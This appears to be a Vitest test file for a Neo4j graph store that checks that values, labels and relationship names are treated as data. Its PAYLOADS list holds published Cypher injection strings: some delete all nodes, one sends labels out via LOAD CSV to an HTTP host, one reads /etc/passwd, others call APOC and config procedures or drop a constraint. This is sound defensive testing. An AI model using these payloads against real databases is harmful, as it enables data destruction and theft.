import { describeWithServer } from '@ltmc/testing';
import { allEdges } from '@ltmc/testing/graph';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { GraphEdge, GraphStore } from '@ltmc/contracts';
import { cypher, neo4j, openEmptyGraph } from './neo4j/shared-server.js';

/** As published: what was sent to programs that put a value, a label, a property or a relationship name into the text of a statement. */
const PAYLOADS = [
  // Neo4j knowledge base, "Protecting against Cypher injection": out of a quoted value
  "Robby' WITH true as ignored MATCH (s:Student) DETACH DELETE s; //",
  "Robby' WITH DISTINCT true as haxxored MATCH (n) DETACH DELETE n //",
  // Out of a label or relationship name in backticks (neo4jphp 138, mcp-neo4j 285, GHSA on APOC), plain and escaped
  'x` WITH 1 AS ignored MATCH (n) DETACH DELETE n //',
  'Person`) MATCH (n) DETACH DELETE n //',
  'x\\u0060 WITH 1 AS ignored MATCH (n) DETACH DELETE n //',
  '`]->() WITH 1 AS ignored MATCH ()-[r]->() DELETE r //',
  'RELATED_TO {strength: 1}]->(b) DETACH DELETE b //',
  // Out of a property map, and out of a number or list
  '"}) WITH 1 AS ignored MATCH (n) SET n.title = "owned" //',
  "1] OR 1=1 WITH n DETACH DELETE n //",
  "' OR 1=1 //",
  "' OR '1'='1",
  // Carrying data out (SANS white paper, HackTricks), reading files, calling procedures
  "' RETURN 0 AS _0 UNION CALL db.labels() YIELD label LOAD CSV FROM 'http://127.0.0.1:9/' + label AS l RETURN 0 //",
  "' LOAD CSV FROM 'file:///etc/passwd' AS l CREATE (:Stolen {line: l}) //",
  "' CALL dbms.listConfig() YIELD name WITH name CREATE (:Stolen {line: name}) //",
  "' CALL apoc.cypher.runMany('MATCH (n) DETACH DELETE n', {}) YIELD result RETURN result //",
  "' CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DETACH DELETE n', {}) //",
  // Schema, comments that never end, parameters by name
  "'; DROP CONSTRAINT ltmc_document; //",
  '/* never ended',
  '$namespace',
  '${row.id}',
  '{{id}}',
  "\\' RETURN 1 //",
  '\u2019 OR 1=1 //',
];

const keep: GraphEdge = { source: { kind: 'document', id: 1 }, target: { kind: 'document', id: 2 }, type: 'keep', strength: 0.5, automatic: false };

async function fingerprint(): Promise<unknown> {
  const nodes = await cypher("MATCH (n {namespace: 'kept'}) RETURN labels(n) AS labels, properties(n) AS properties ORDER BY n.id");
  const edges = await cypher("MATCH (a {namespace: 'kept'})-[r]->(b) RETURN a.id AS a, type(r) AS type, properties(r) AS properties, b.id AS b");
  const names = await cypher("CALL db.labels() YIELD label WITH collect(label) AS labels CALL db.relationshipTypes() YIELD relationshipType RETURN labels, collect(relationshipType) AS types");
  const constraints = await cypher('SHOW CONSTRAINTS YIELD name RETURN name ORDER BY name');
  return { nodes, edges, names, constraints };
}

describeWithServer('what is sent to Neo4j is data', neo4j, () => {
  let graph: GraphStore;
  beforeAll(async () => {
    graph = await openEmptyGraph();
    await graph.apply({ edges: [{ namespace: 'kept', revision: 1, edge: keep }], nodes: [{ namespace: 'kept', revision: 1, node: { kind: 'document', id: 1, title: 'kept', type: 'note' } }], move: { recordId: 'kept', epoch: 1, from: 0, to: 1 } });
  });
  afterAll(() => graph.close());

  it.each(PAYLOADS)('%s', async (payload) => {
    const before = await fingerprint();
    const tagged: GraphEdge = { source: { kind: 'document', id: 1 }, target: { kind: 'concept', id: payload }, type: payload, strength: 1, automatic: false };
    await graph.apply({
      nodes: [{ namespace: payload, revision: 1, node: { kind: 'document', id: 1, title: payload, type: payload } }],
      edges: [{ namespace: payload, revision: 1, edge: tagged }],
    });
    const ask = { namespace: payload, types: [payload] };
    expect((await graph.neighbours({ ...ask, node: tagged.target, maxDepth: 5 })).found.map(({ node }) => node)).toEqual([tagged.source]);
    expect((await graph.paths({ ...ask, from: tagged.source, to: tagged.target })).found).toHaveLength(1);
    expect(await graph.degrees({ ...ask, nodes: [tagged.target] })).toEqual([{ node: tagged.target, out: 0, in: 1 }]);
    expect((await graph.statistics({ namespace: payload })).types).toEqual([{ type: payload, edges: 1 }]);
    expect(await allEdges(graph, payload, 1)).toEqual([tagged]);
    expect((await graph.listNodes({ namespace: payload, limit: 10 })).nodes).toEqual([tagged.target, { kind: 'document', id: 1, title: payload, type: payload }]);
    await graph.listEdges({ namespace: payload, limit: 1, after: JSON.stringify(['document', 1, payload]) });
    await graph.listNodes({ namespace: payload, limit: 1, after: JSON.stringify(['concept', payload]) });
    await graph.apply({ removeEdges: [{ namespace: payload, revision: 2, source: tagged.source, target: tagged.target, type: payload }] });
    await graph.apply({ removeNodes: [{ namespace: payload, revision: 2, node: tagged.source }] });
    expect(await graph.counts(payload)).toEqual({ nodes: 0, edges: 0 });
    expect(await fingerprint()).toEqual(before);
  });

  it('names of records and of what is cleared, too', async () => {
    const before = await fingerprint();
    for (const payload of PAYLOADS) {
      await expect(graph.apply({ move: { recordId: payload, epoch: 1, from: 0, to: 1 } })).rejects.toMatchObject({ code: 'LTMC_GRAPH_OUT_OF_STEP' });
    }
    await graph.clear({ namespace: PAYLOADS.join('').slice(0, 256) });
    expect(await fingerprint()).toEqual(before);
  });
});
